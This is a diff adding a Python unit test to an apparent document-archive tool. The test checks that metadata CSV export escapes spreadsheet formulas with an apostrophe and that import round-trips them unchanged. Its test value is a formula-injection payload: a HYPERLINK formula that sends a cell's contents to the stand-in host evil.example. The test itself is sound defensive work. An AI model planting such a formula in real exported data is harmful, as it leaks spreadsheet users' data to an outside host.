@@ -533,3 +533,26 @@ def test_an_edit_reaches_the_archive(small: Path, tmp_path: Path) -> None:
 
     assert (stored.title, stored.date) == ("通知三（修订）", "2017-05-01")
     assert notice.date == "2016-03-05"
+
+
+def test_a_formula_in_a_cell_is_exported_inert_and_imported_as_typed(tmp_path: Path) -> None:
+    """A title a spreadsheet would run (=HYPERLINK...) is exported behind an apostrophe, and
+    the apostrophe is taken off on import: a round trip changes nothing."""
+    from shiliao.operations.edit import (
+        edit_source,
+        export_metadata_csv,
+        import_metadata_csv,
+        read_record,
+    )
+
+    (tmp_path / "sources").mkdir()
+    (tmp_path / "sources" / "a.txt").write_text("正文\n", encoding="utf-8")
+    formula = '=HYPERLINK("http://evil.example/?x="&B3,"open")'
+    record = read_record(tmp_path, "a")
+    edit_source(tmp_path, "a", {"title": formula, "date": "-0100"}, base_version=record.version)
+    exported = export_metadata_csv(tmp_path)
+    assert "'=HYPERLINK" in exported and "'-0100" in exported
+    assert ',"=HYPERLINK' not in exported and ",=HYPERLINK" not in exported
+    report = import_metadata_csv(tmp_path, exported)
+    assert not report.errors and all(not r.changed for r in report.written)
+    assert read_record(tmp_path, "a").value("title") == formula
